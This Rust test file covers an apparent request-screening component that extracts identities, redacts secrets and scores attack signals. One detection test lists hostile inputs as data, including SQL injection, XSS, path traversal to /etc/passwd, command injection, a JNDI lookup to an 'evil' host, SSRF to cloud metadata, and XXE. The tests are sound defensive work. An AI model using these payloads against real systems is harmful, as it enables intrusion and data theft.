//! Identification, redaction, signals, bounds, and arbitrary bytes.

use std::sync::Arc;

use proptest::prelude::*;

use super::*;
use crate::domain::{Header, HttpRequest, HttpResponse, Source, Success, Tls};
use crate::hash::Keyring;
use crate::time::Timestamp;

fn door() -> Door {
    Door::new(Arc::new(Schema::shipped()), Keyring::new(1, [3; 32]).hasher())
}

fn header(name: &str, value: &str) -> Header {
    Header { name: name.to_owned(), value: value.to_owned() }
}

fn request(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Transaction {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    Transaction {
        id: "0af7651916cd43dd8448eb211c80319c".to_owned(),
        time: Timestamp::from_micros(1_700_000_000_000_000),
        source: Source { ip: "198.51.100.4".to_owned(), port: 4711, ..Source::default() },
        http: Some(HttpRequest {
            method: method.to_owned(),
            scheme: "https".to_owned(),
            host: "shop.example".to_owned(),
            path: path.to_owned(),
            query: query.to_owned(),
            headers: headers.iter().map(|(name, value)| header(name, value)).collect(),
            body: body.to_vec(),
            body_size: body.len() as u64,
            version: "1.1".to_owned(),
            ..HttpRequest::default()
        }),
        service: "shop".to_owned(),
        ..Transaction::default()
    }
}

fn browser(target: &str) -> Transaction {
    let headers = [
        ("host", "shop.example"),
        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("accept", "application/json"),
        ("accept-language", "en-GB,en;q=0.5"),
        ("accept-encoding", "gzip, deflate, br"),
        ("cookie", "did=d-5f3a9c; sid=s-91b2c7"),
        ("referer", "https://shop.example/products"),
    ];
    request("GET", target, &headers, b"")
}

/// The key that an entity type of the shipped schema gives to an identifier.
fn key(door: &Door, kind: &str, identifier: &str) -> EntityId {
    door.entity(door.schema.entity_type(kind).unwrap(), identifier).unwrap()
}

fn subject(door: &Door, admitted: &Admitted, kind: &str) -> Option<EntityId> {
    admitted.subjects.of(door.schema.entity_type(kind).unwrap()).map(|subject| subject.id)
}

#[test]
fn identities_are_found_where_they_stand() {
    let door = door();
    let json = [("content-type", "application/json")];
    let form = [("content-type", "application/x-www-form-urlencoded")];
    // {"alg":"HS256"} . {"sub":"Carol","n":1}
    let token = "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJDYXJvbCIsIm4iOjF9.c2ln";
    let cases: Vec<(Transaction, &str, Option<&str>)> = vec![
        (request("POST", "/api/login", &json, br#"{"username":" Ann ","password":"pw"}"#), "user", Some("ann")),
        (request("POST", "/api/login", &json, br#"{"username":"ann","password":"pw"}"#), "credential", Some("pw")),
        (request("POST", "/api/login", &json, br#"{"password":"p\u0077","username":"a\"n"}"#), "credential", Some("pw")),
        (request("POST", "/api/login", &json, br#"{"username":"eve","username":"ann"}"#), "user", Some("ann")),
        (request("POST", "/api/login", &json, br#"{"username":"ann","password":"cut of"#), "credential", None),
        (request("POST", "/api/login", &json, br#"{"username":"ann","password":"cut of"#), "user", Some("ann")),
        (request("POST", "/api/login", &json, br#"{"username":"","password":""}"#), "user", None),
        (request("POST", "/api/login", &json, br#"{"username":null}"#), "user", None),
        (request("POST", "/api/login", &json, br#"{"user":{"username":"ann"}}"#), "user", None),
        (request("POST", "/api/login", &json, br#"["username","ann"]"#), "user", None),
        (request("POST", "/login", &form, b"username=An%6E&password=p%26w"), "credential", Some("p&w")),
        (request("POST", "/login", &form, b"username=An%6E&password=p%26w"), "user", Some("ann")),
        (request("GET", "/api/account", &[("authorization", token)], b""), "user", Some("carol")),
        (request("GET", "/api/account", &[("authorization", "bearer abc")], b""), "session", Some("abc")),
        (request("GET", "/api/account", &[("authorization", "Basic YW5uOnB3")], b""), "user", Some("ann")),
        (request("GET", "/api/account", &[("authorization", "Basic YW5uOnB3")], b""), "credential", Some("pw")),
        (request("GET", "/", &[("cookie", "a=b; sid=\"s1\";x")], b""), "session", Some("s1")),
        (request("GET", "/", &[("cookie", "sid=; did=d1")], b""), "session", None),
        (request("GET", "/", &[("cookie", "sid=; did=d1")], b""), "device", Some("d1")),
        (
            request("POST", "/api/checkout", &json, br#"{"card":{"number":"4111 1111-1111 1111"},"amount":3}"#),
            "card",
            Some("4111111111111111"),
        ),
        (request("POST", "/api/checkout", &json, br#"{"card":{"number":4111111111111111}}"#), "card", Some("4111111111111111")),
        (request("POST", "/api/checkout", &json, br#"{"card":{"number":"none"}}"#), "card", None),
        (request("GET", "/api/orders/17?x=1", &[], b""), "endpoint", Some("shop GET /api/orders/{id}")),
        (request("GET", "/", &[], b""), "service", Some("shop")),
    ];
    for (tx, kind, identifier) in cases {
        let shown = format!("{kind} of {:?}", tx.http.as_ref().map(|http| String::from_utf8_lossy(&http.body).into_owned()));
        let admitted = door.admit(tx).unwrap();
        assert_eq!(subject(&door, &admitted, kind), identifier.map(|identifier| key(&door, kind, identifier)), "{shown}");
    }
}

#[test]
fn addresses_have_one_form() {
    let door = door();
    let cases = [
        ("192.0.2.1", "192.0.2.1"),
        ("::ffff:192.0.2.1", "192.0.2.1"),
        ("2001:DB8:0:1:aaaa::1", "2001:db8:0:1::"),
        ("2001:db8:0:1::ffff", "2001:db8:0:1::"),
        ("unix", "unix"),
    ];
    for (given, one) in cases {
        let mut tx = request("GET", "/", &[], b"");
        given.clone_into(&mut tx.source.ip);
        let admitted = door.admit(tx).unwrap();
        let address = admitted.subjects.of(EntityType(0)).unwrap();
        assert_eq!((address.name.as_deref(), address.verified), (Some(one), true), "{given}");
        assert_eq!(address.id, key(&door, "address", given));
    }
    let mut tx = request("GET", "/", &[], b"");
    tx.source.ip = " ".to_owned();
    assert!(subject(&door, &door.admit(tx).unwrap(), "address").is_none());
}

#[test]
fn what_a_client_says_is_claimed_until_the_gateway_or_a_login_says_so() {
    let door = door();
    let user = door.schema.entity_type("user").unwrap();
    let session = door.schema.entity_type("session").unwrap();
    let login = request("POST", "/api/login", &[("content-type", "application/json")], br#"{"username":"ann","password":"pw"}"#);
    let admitted = door.admit(login).unwrap();
    assert!(!admitted.subjects.of(user).unwrap().verified);
    let context = door.schema.context(&admitted, admitted.tx.time);
    let answer = |status| Outcome {
        transaction_id: admitted.tx.id.clone(),
        response: Some(HttpResponse {
            status,
            headers: vec![header("set-cookie", "sid=s-91b2c7; Path=/; HttpOnly")],
            ..HttpResponse::default()
        }),
        ..Outcome::default()
    };
    door.admit_outcome(answer(401), &context).unwrap();
    let before = door.admit(browser("/api/orders")).unwrap();
    assert!(before.subjects.of(user).is_none(), "a failed login opens nothing");

    let outcome = door.admit_outcome(answer(200), &context).unwrap();
    assert_eq!(outcome.revealed.of(session).unwrap().id, key(&door, "session", "s-91b2c7"));
    let events = door.schema.outcome_events(&context, &outcome);
    let proved: Vec<EntityId> = events.events.iter().filter(|(_, event)| event.proves).map(|(id, _)| *id).collect();
    assert!(proved.contains(&key(&door, "user", "ann")) && proved.contains(&key(&door, "session", "s-91b2c7")));

    let later = door.admit(browser("/api/orders")).unwrap();
    let known = later.subjects.of(user).unwrap();
    assert!(known.id == key(&door, "user", "ann") && known.verified);
    assert!(later.subjects.of(session).unwrap().verified);

    // Another door learns the same from the journalled transaction and outcome.
    let restarted = Door::new(Arc::clone(&door.schema), door.hasher.clone());
    restarted.follow(&before);
    restarted.remember(&context, &outcome);
    assert_eq!(restarted.admit(browser("/api/orders")).unwrap(), later);

    let mut vouched = request("GET", "/", &[], b"");
    vouched.identity = Identity { user: "Bob".to_owned(), verified: true, ..Identity::default() };
    assert!(door.admit(vouched).unwrap().subjects.of(user).unwrap().verified);
}

#[test]
fn fingerprints_follow_software_and_not_address() {
    let door = door();
    let of = |tx: Transaction| subject(&door, &door.admit(tx).unwrap(), "fingerprint").unwrap();
    let one = of(browser("/"));
    let mut moved = browser("/api/orders?page=2");
    moved.source.ip = "203.0.113.9".to_owned();
    moved.http.as_mut().unwrap().headers.push(header("content-length", "3"));
    assert_eq!(of(moved), one);
    let mut reordered = browser("/");
    reordered.http.as_mut().unwrap().headers.swap(2, 3);
    assert_ne!(of(reordered), one);
    let mut tls = browser("/");
    tls.source.tls = Some(Tls { ja4: "t13d1516h2_8daaf6152771_02713d6af862".to_owned(), ..Tls::default() });
    assert_ne!(of(tls), one);
    let mut given = browser("/");
    given.identity.fingerprint = "fp-1".to_owned();
    assert_eq!(of(given), key(&door, "fingerprint", "fp-1"));
}

#[test]
fn no_secret_survives() {
    let door = door();
    let json = br#"{"username":"ann","password":"hunter2-secret","card":{"number":"4111111111111111","cvv":"98765432"},"coupon":"SAVE-ME-42","amount":5}"#;
    let mut tx = request(
        "POST",
        "/api/checkout?token=query-secret&page=2&API_KEY=key-secret",
        &[
            ("content-type", "application/json"),
            ("cookie", "sid=session-secret; theme=cookie-secret; naked-secret"),
            ("authorization", "Bearer bearer-secret"),
            ("x-api-key", "header-secret"),
            ("referer", "https://shop.example/reset?token=referer-secret&x=1"),
        ],
        json,
    );
    tx.identity = Identity {
        session: "id-session-secret".to_owned(),
        user: "id-user-secret".to_owned(),
        fields: [("card".to_owned(), "5500000000000004".to_owned())].into(),
        ..Identity::default()
    };
    tx.attributes.insert("card".to_owned(), Value::Text("340000000000009".to_owned()));
    tx.attributes.insert("promo_code".to_owned(), Value::Text("promo-secret".to_owned()));
    tx.response = Some(HttpResponse { headers: vec![header("set-cookie", "sid=set-secret; Path=/")], ..HttpResponse::default() });
    let admitted = door.admit(tx).unwrap();
    let shown = format!("{admitted:?}");
    for secret in ["secret", "hunter2", "4111111111111111", "98765432", "SAVE-ME", "5500000000000004", "340000000000009", "ann"] {
        let left = shown.replace("tok_", "").matches(secret).count();
        assert_eq!(left, 0, "{secret} in {shown}");
    }
    let http = admitted.tx.http.as_ref().unwrap();
    assert!(http.body.is_empty() && http.body_size == json.len() as u64);
    assert!(http.query.starts_with("token=tok_query_") && http.query.contains("&page=2&API_KEY=tok_query_"), "{}", http.query);
    assert!(http.header("authorization").unwrap().starts_with("Bearer tok_authorization_"));
    assert!(http.header("referer").unwrap().ends_with("&x=1"));
    assert!(matches!(admitted.fields.get("promo_code"), Some(Value::Text(token)) if token.starts_with("tok_promo_code_")));
    assert_eq!(admitted.fields.get("amount"), Some(&Value::Number(5.0)));
    assert_eq!(admitted.fields.get("page"), Some(&Value::Number(2.0)));

    let context = door.schema.context(&admitted, admitted.tx.time);
    let outcome = Outcome {
        response: Some(HttpResponse {
            status: 200,
            headers: vec![header("set-cookie", "sid=set-secret; Path=/")],
            ..HttpResponse::default()
        }),
        identity: Identity { session: "reveal-secret".to_owned(), ..Identity::default() },
        ..Outcome::default()
    };
    let outcome = door.admit_outcome(outcome, &context).unwrap();
    assert!(!format!("{outcome:?}").contains("secret"), "{outcome:?}");
}

#[test]
fn equal_secrets_give_equal_tokens_and_keys_differ_by_key() {
    let login = || request("POST", "/api/login", &[("content-type", "application/json")], br#"{"username":"ann","password":"pw"}"#);
    let (one, same) = (door(), door());
    let other = Door::new(Arc::new(Schema::shipped()), Keyring::new(1, [4; 32]).hasher());
    let of = |door: &Door| subject(door, &door.admit(login()).unwrap(), "credential").unwrap();
    assert_eq!(of(&one), of(&same));
    assert_ne!(of(&one), of(&other));
}

#[test]
fn signals_tell_attacks_from_ordinary_requests() {
    let door = door();
    let json =
        [("content-type", "application/json"), ("user-agent", "Mozilla/5.0"), ("accept-language", "en"), ("accept-encoding", "gzip")];
    let cases: Vec<(Transaction, &str)> = vec![
        (request("GET", "/api/search?q=1%27%20or%20%271%27=%271", &json, b""), "sqli"),
        (request("GET", "/api/search?q=1+UNION/**/SELECT+a+FROM+b", &json, b""), "sqli"),
        (request("GET", "/api/search?q=%253Cscript%253Ealert(1)", &json, b""), "xss"),
        (request("POST", "/api/cart", &json, br#"{"note":"\u003cimg src=x onerror=alert(1)>"}"#), "xss"),
        (request("GET", "/files/..%2f..%2f..%2fetc/passwd", &json, b""), "traversal"),
        (request("GET", "/api/ping?host=8.8.8.8;cat%20/etc/hosts", &json, b""), "command"),
        (request("GET", "/?x=${jndi:ldap://evil/a}", &json, b""), "template"),
        (request("GET", "/", &[("user-agent", "${jndi:ldap://evil/a}")], b""), "template"),
        (request("POST", "/x", &json, br#"{"name":"{{7*7}}"}"#), "template"),
        (request("GET", "/.env", &json, b""), "probe"),
        (request("GET", "/.git/config", &json, b""), "probe"),
        (request("GET", "/phpMyAdmin/index.php", &json, b""), "probe"),
        (request("POST", "/x", &json, br#"{"url":"http://169.254.169.254/latest/meta-data"}"#), "ssrf"),
        (request("GET", "/fetch?u=http://127.0.0.1:8080/", &json, b""), "ssrf"),
        (request("POST", "/x", &[("content-type", "text/xml")], b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"), "xxe"),
        (request("GET", "/r?to=a%0d%0aSet-Cookie:%20x=1", &json, b""), "header_injection"),
        (request("POST", "/x", &json, br#"{"o":"rO0ABXNyABFqYXZh"}"#), "deserialization"),
        (request("POST", "/api/signup", &json, br#"{"username":"a","isAdmin":true}"#), "mass_assignment"),
        (request("POST", "/api/cart", &json, br#"{"product":3,"quantity":-5}"#), "negative_amount"),
        (request("GET", "/", &[("authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0.")], b""), "jwt_none"),
        (request("GET", "/", &[("user-agent", "sqlmap/1.7")], b""), "scanner_agent"),
        (request("GET", "/", &[("user-agent", "python-requests/2.31")], b""), "automation_agent"),
        (request("GET", "/", &[("user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1)")], b""), "crawler_agent"),
        (request("GET", "/", &[], b""), "missing_agent"),
        (request("GET", "/", &[("user-agent", "Mozilla/5.0 (X11)")], b""), "browser_mismatch"),
        (request("GET", "/x?a=%252541", &json, b""), "nested_encoding"),
        (request("POST", "/x", &json, br#"{"a":1,"a":2}"#), "duplicate_keys"),
        (request("POST", "/x", &json, br#"{"a":1,,}"#), "json_malformed"),
        (request("GET", "/x?a=%00%ff", &json, b""), "invalid_bytes"),
        (request("GET", "/openapi.json", &json, b""), "spec_probe"),
        (request("GET", "/x?p=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", &json, b""), "encoded_payload"),
    ];
    for (tx, signal) in cases {
        let shown = tx.http.as_ref().map(|http| format!("{} {}", http.path, http.query));
        let admitted = door.admit(tx).unwrap();
        assert!(admitted.signals.named(signal).unwrap() > 0.0, "{signal} in {shown:?}: {:?}", admitted.signals);
    }
    let ordinary: Vec<Transaction> = vec![
        browser("/"),
        browser("/api/search?q=rock+and+roll&page=2"),
        browser("/api/search?q=O%27Brien"),
        browser("/api/search?q=select+comfort+mattress"),
        browser("/api/products/17?ref=https://shop.example/sale"),
        browser("/assets/app.9f8e7d.js"),
        request("POST", "/api/login", &json, br#"{"username":"ann","password":"c0rrect; horse | battery"}"#),
        request("POST", "/api/checkout", &json, br#"{"card":{"number":"4111111111111111","cvv":"123","expiry":"12/29"},"amount":19.99}"#),
        request("POST", "/api/review", &json, br#"{"text":"It's good (really), and I'd buy it again -- thanks!"}"#),
    ];
    for tx in ordinary {
        let shown = tx.http.as_ref().map(|http| format!("{} {} {}", http.path, http.query, String::from_utf8_lossy(&http.body)));
        let admitted = door.admit(tx).unwrap();
        for signal in [
            "classes",
            "probe",
            "scanner_agent",
            "automation_agent",
            "browser_mismatch",
            "encoded_payload",
            "mass_assignment",
            "negative_amount",
        ] {
            assert_eq!(admitted.signals.named(signal), Some(0.0), "{signal} in {shown:?}: {:?}", admitted.signals);
        }
    }
}

#[test]
fn the_catalogue_names_the_signals_in_order() {
    use content::Signal;
    let last = Signal::EncodedPayload as usize;
    assert_eq!(last + 1, SIGNALS);
    for (signal, name) in [
        (Signal::Sqli, "sqli"),
        (Signal::Classes, "classes"),
        (Signal::JsonDepth, "json_depth"),
        (Signal::EncodedPayload, "encoded_payload"),
    ] {
        assert_eq!(CATALOGUE[signal as usize].0, name);
    }
}

#[test]
fn limits_refuse_or_cut() {
    let door = door();
    let refused = |change: fn(&mut Transaction)| {
        let mut tx = browser("/");
        change(&mut tx);
        door.admit(tx).unwrap_err().to_string()
    };
    assert!(refused(|tx| tx.id.clear()).contains("`id` is empty"));
    assert_eq!(refused(|tx| tx.id = "x".repeat(129)), "`id` has size 129, at most 128 is allowed");
    assert!(
        refused(|tx| tx.attributes = (0..65).map(|n| (n.to_string(), Value::Flag(true))).collect()).contains("`attributes` has size 65")
    );
    assert!(
        refused(|tx| _ = tx.attributes.insert("amount".to_owned(), Value::Number(f64::NAN)))
            .contains("`attributes.amount` is not a finite number")
    );
    assert!(refused(|tx| tx.identity.user = "x".repeat(1025)).contains("`identity.user` has size 1025"));

    let mut large = browser(&format!("/{}", "é".repeat(500_000)));
    let http = large.http.as_mut().unwrap();
    http.query = "q".repeat(100_000);
    http.headers = (0..100_000).map(|n| header(&format!("h{n}"), "v")).collect();
    http.body = vec![b'x'; 1 << 20];
    let admitted = door.admit(large).unwrap();
    let http = admitted.tx.http.unwrap();
    assert!(http.path.len() <= 8192 && http.query.len() <= 8192 && http.headers.len() == 128 && http.truncated);
    assert!(admitted.route.len() <= TEXT_BYTES && door.cuts() > 0);
}

#[test]
fn payments_without_http_pass() {
    let door = Door::new(Arc::new(Schema::payments()), Keyring::new(1, [3; 32]).hasher());
    let mut tx = Transaction { id: "p1".to_owned(), ..Transaction::default() };
    tx.attributes.insert("amount".to_owned(), Value::Number(12.0));
    tx.attributes.insert("terminal".to_owned(), Value::Text("T-9".to_owned()));
    tx.identity.user = "c-77".to_owned();
    tx.identity.fields.insert("card".to_owned(), "4111111111111111".to_owned());
    let admitted = door.admit(tx).unwrap();
    assert_eq!((admitted.subjects.len(), admitted.route.as_str()), (3, ""));
    assert!(!format!("{admitted:?}").contains("4111"));
    let context = door.schema.context(&admitted, admitted.tx.time);
    let outcome = door.admit_outcome(Outcome { success: Success::Failed, ..Outcome::default() }, &context).unwrap();
    assert!(door.schema.outcome_events(&context, &outcome).events.is_empty(), "that schema counts no outcomes");
}

fn any_text() -> impl Strategy<Value = String> {
    prop_oneof!["\\PC{0,80}", "[ -~]{0,200}", proptest::collection::vec(any::<char>(), 0..40).prop_map(|chars| chars.into_iter().collect())]
}

fn any_body() -> impl Strategy<Value = Vec<u8>> {
    let json = r#"[\[\]{}",:\\u0-9a-fA-F tnrl.eE+-]{0,120}"#;
    prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..300),
        json.prop_map(String::into_bytes),
        "[a-z%&=+0-9]{0,100}".prop_map(String::into_bytes)
    ]
}

proptest! {
    #[test]
    fn arbitrary_requests_never_panic(
        path in any_text(), query in any_text(), agent in any_text(), cookie in any_text(), auth in any_text(), body in any_body(),
        kind in prop_oneof!["application/json", "application/x-www-form-urlencoded", "text/xml", ""], ip in any_text(), cut in any::<bool>(),
    ) {
        let door = DOOR.with(Arc::clone);
        let headers = [("user-agent", agent.as_str()), ("cookie", &cookie), ("authorization", &auth), ("content-type", &kind), ("referer", &query)];
        let mut tx = request("POST", "/", &headers, &body);
        tx.source.ip = ip.chars().take(100).collect();
        if let Some(http) = &mut tx.http {
            http.path = path;
            http.query = query;
            http.truncated = cut;
        }
        let again = tx.clone();
        let admitted = door.admit(tx).unwrap();
        prop_assert!(admitted.signals.as_slice().iter().all(|signal| signal.is_finite() && *signal >= 0.0));
        prop_assert!(admitted.tx.http.as_ref().is_some_and(|http| http.body.is_empty()));
        // What is computed from an admitted transaction is computed from it alone: a copy gives the same, and so does admitting again.
        let copy = Admitted { signals: Signals::from_slice(admitted.signals.as_slice()), ..admitted.clone() };
        let (events, others) = (door.schema.events(&admitted), door.schema.events(&copy));
        prop_assert_eq!(format!("{events:?}"), format!("{others:?}"));
        prop_assert_eq!(door.admit(again).unwrap(), admitted);
    }

    #[test]
    fn json_leaves_are_those_of_a_strict_parser(value in any_json()) {
        let text = value.to_string();
        let mut strict = Vec::new();
        flatten(&value, &mut Vec::new(), &mut strict);
        let mut ours = Vec::new();
        let shape = json::scan(text.as_bytes(), |path, leaf| ours.push((path.iter().map(|key| key.to_string()).collect::<Vec<_>>(), leaf.text.into_owned())));
        if value.is_object() || value.is_array() {
            prop_assert!(!shape.malformed && !shape.incomplete, "{text}");
            prop_assert_eq!(ours, strict);
        }
    }
}

thread_local! {
    static DOOR: Arc<Door> = Arc::new(door());
}

fn any_json() -> impl Strategy<Value = serde_json::Value> {
    let leaf = prop_oneof![
        any::<bool>().prop_map(serde_json::Value::from),
        any::<i32>().prop_map(serde_json::Value::from),
        any_text().prop_map(serde_json::Value::from),
        Just(serde_json::Value::Null)
    ];
    leaf.prop_recursive(4, 40, 6, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..6).prop_map(serde_json::Value::from),
            proptest::collection::btree_map(any_text(), inner, 0..6)
                .prop_map(|map| serde_json::Value::from(map.into_iter().collect::<serde_json::Map<_, _>>())),
        ]
    })
}

fn flatten(value: &serde_json::Value, path: &mut Vec<String>, out: &mut Vec<(Vec<String>, String)>) {
    match value {
        serde_json::Value::Object(map) => map.iter().for_each(|(key, value)| {
            path.push(key.clone());
            flatten(value, path, out);
            path.pop();
        }),
        serde_json::Value::Array(list) => list.iter().for_each(|value| {
            path.push(String::new());
            flatten(value, path, out);
            path.pop();
        }),
        serde_json::Value::String(text) => out.push((path.clone(), text.clone())),
        other => out.push((path.clone(), other.to_string())),
    }
}
